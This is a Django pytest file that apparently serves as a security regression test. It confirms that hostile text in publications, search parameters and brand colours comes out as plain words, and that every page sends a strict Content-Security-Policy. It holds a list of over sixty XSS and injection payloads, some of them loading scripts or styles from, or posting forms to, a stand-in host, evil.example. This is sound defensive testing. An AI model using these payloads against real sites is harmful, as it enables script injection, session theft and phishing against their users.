"""Whatever somebody managed to have published comes out as words (security: A23)."""

import json
import re
from typing import Any

import pytest
from django.test import Client
from pydantic import BaseModel

from precept.foundation.publications import actions, rules
from precept.foundation.publications.kinds import kind
from precept.foundation.publications.models import Publication
from precept.foundation.web.middleware import CONTENT_POLICY
from tests.public import published_office as made
from tests.public.published_office import publish
from tests.public.reading import PAGES, active_parts

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert`1`</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</main></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'\"><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed;inset:0" x="',
    "` onmouseover=alert(1) `",
    "x onclick=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "{{ 7 * 7 }}{% for x in y %}",
    "${alert(1)} #{alert(1)} <%= 7 * 7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;",
    "-->]]><script>alert(1)</script>",
    "\u202e\u200btxt.exe<b>\u2028x\u2029",
    "\x01\x08\x0b\x1f\x7f control",
)
FIRST_MATTERS = ("javascript:", "java\tscript:", "data:", "vbscript:", "//")
"""What does harm only at the beginning of an address, and so must stand alone there."""
ALONE = [one for one in PAYLOADS if one.strip().lower().startswith(FIRST_MATTERS)]
TOGETHER = [one for one in PAYLOADS if one not in ALONE]
ROUNDS = [*ALONE, *(" ".join(TOGETHER[at::8]) for at in range(8))]
KEPT = {
    "reference",
    "slug",
    "code",
    "key",
    "layout",
    "fund",
    "version",
    "year",
    "provider_reference",
}
"""What is not free text: checked by the part that owns it, and part of addresses."""
A_DAY = re.compile(r"\d{4}-\d\d(-\d\d)?|\d\d:\d\d:\d\d|#[0-9a-f]{6}")


def hostile(thing: Any, payload: str, name: str = "") -> Any:
    """A payload with this text in every field that holds words."""
    if isinstance(thing, BaseModel):
        return hostile(thing.model_dump(mode="json"), payload)
    if isinstance(thing, dict):
        return {key: hostile(value, payload, key) for key, value in thing.items()}
    if name == "columns":  # (key, heading): the key is the layout's own
        return [[key, payload] for key, _ in thing]
    if isinstance(thing, list):
        return [hostile(value, payload, name) for value in thing]
    if not isinstance(thing, str) or name in KEPT or A_DAY.fullmatch(thing):
        return thing
    return payload


def poison(payload: str) -> None:
    """Put a text where every word of every publication stood, and make its entries and files again."""
    for row in Publication.objects.filter(is_tombstone=False):
        said = hostile(json.loads(row.payload), payload)
        text = kind(row.kind).struct.model_validate(said).model_dump_json()
        row.payload = rules.spelled(json.loads(text))
        row.digest = row.digest_now = rules.digest(row.payload)
        row.title, row.why = payload[:300], payload
        row.save()
        if row.is_latest:
            actions.index(row)


@pytest.mark.parametrize("payload", ROUNDS)
@pytest.mark.usefixtures("published")
def test_hostile_words_come_out_as_words_on_every_page(client: Client, payload: str) -> None:
    before = {address: active_parts(client.get(address)) for address in PAGES}
    poison(payload)

    pages = {address: client.get(address) for address in PAGES}

    assert {address: page.status_code for address, page in pages.items()} == dict.fromkeys(
        PAGES, 200
    )
    assert [address for address in PAGES if before[address]] == []
    assert {address: active_parts(page) for address, page in pages.items()} == before
    for name in ("all", "agreement", "framework"):
        feed = client.get(f"/feeds/{name}.atom")
        assert feed.status_code == 200
        assert b"<script" not in feed.content.lower()
    assert client.get("/brand.css").content == (
        b":root{--office-colour:#1d3557;--office-colour-text:#ffffff;--office-accent:#d8a12b}\n"
    )


def test_what_a_reader_types_comes_back_as_words(client: Client) -> None:
    found = {
        (payload, address): client.get(
            address, {"words": payload, "on": payload, "sort": payload, "page": payload}
        )
        for payload in PAYLOADS
        for address in ("/search", "/register", "/organisations", "/rules")
    }

    assert len(PAYLOADS) >= 60
    assert [name for name, page in found.items() if active_parts(page)] == []
    assert {page.status_code for (_, address), page in found.items() if address != "/rules"} == {
        200
    }


@pytest.mark.parametrize(
    "colour",
    ["red;}*{display:none", "url(//evil.example)", "</style><script>", "#12345", "#zzzzzz"],
)
def test_a_colour_that_is_none_never_reaches_the_style_sheet(client: Client, colour: str) -> None:
    publish("office", "office", made.office(colour=colour, accent=colour))

    assert client.get("/brand.css").content == (
        b":root{--office-colour:#1d3557;--office-colour-text:#ffffff;--office-accent:#457b9d}\n"
    )


@pytest.mark.usefixtures("published")
def test_every_page_forbids_what_it_does_not_use(client: Client) -> None:
    policies = {client.get(address)["Content-Security-Policy"] for address in PAGES}

    assert policies == {CONTENT_POLICY}
    assert "unsafe" not in CONTENT_POLICY
